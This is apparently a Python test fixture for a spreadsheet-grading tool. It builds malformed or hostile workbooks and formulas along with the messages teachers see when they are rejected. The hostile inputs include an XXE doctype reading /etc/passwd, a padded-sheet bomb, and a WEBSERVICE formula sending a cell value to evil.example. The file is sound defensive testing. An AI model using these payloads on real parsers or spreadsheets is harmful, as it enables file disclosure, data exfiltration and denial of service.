"""Files that cannot be graded, and formulas that must not be calculated, with what a teacher is told."""

import io
import zipfile
from collections.abc import Callable
from functools import partial

from tests.classroom.papers import Paper


def truncated(content: bytes) -> bytes:
    return content[: len(content) // 2]


def without(content: bytes, part: str) -> bytes:
    paper = Paper(content)
    del paper.parts[part]
    return paper.content()


def with_document_type(content: bytes) -> bytes:
    paper = Paper(content)
    declared = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><worksheet'
    paper.replace("xl/worksheets/sheet4.xml", lambda xml: xml.replace(b"<worksheet", declared, 1))
    return paper.content()


def bomb(content: bytes) -> bytes:
    paper = Paper(content)
    paper.replace("xl/worksheets/sheet4.xml", lambda xml: xml + b" " * 60_000_000)
    return paper.content()


def document() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
    return stream.getvalue()


BROKEN: dict[str, tuple[str, Callable[[bytes], bytes], str]] = {
    "truncated": (".xlsx", truncated, "not a zip file"),
    "no-zip": (".xlsx", lambda _: b"0.79 0.81 0.77", "it is no zip archive"),
    "empty": (".xlsx", lambda _: b"", "it is no zip archive"),
    "old-format-by-name": (".xls", lambda _: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 99, "an .xls file"),
    "old-format": (
        ".xlsx",
        lambda _: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 99,
        "in an old format such as .xls",
    ),
    "document": (".docx", lambda _: document(), "a .docx file"),
    "document-by-another-name": (".xlsx", lambda _: document(), ""),
    "bomb": (".xlsx", bomb, "times as large"),
    "document-type": (".xlsx", with_document_type, "declares a document type"),
    "no-workbook": (".xlsx", partial(without, part="xl/workbook.xml"), "xl/workbook.xml"),
    "no-sheet": (".xlsx", partial(without, part="xl/worksheets/sheet4.xml"), "sheet4.xml"),
}

REFUSED = {
    "hyperlink": ('HYPERLINK("http://evil.example",0.2)', "HYPERLINK"),
    "webservice": ('WEBSERVICE("http://evil.example/?"&Setup!C3)', "WEBSERVICE"),
    "indirect": ('INDIRECT("{y[0]}")-{output[0]}', "INDIRECT"),
    "random": ("{y[0]}-{output[0]}+0*RAND()", "RAND"),
    "huge": ("{y[0]}-{output[0]}+0*SUM(Setup!A:XFD)", "100,000 cells"),
    "elsewhere": ("'[other.xlsx]Sheet1'!A1", "another workbook"),
}
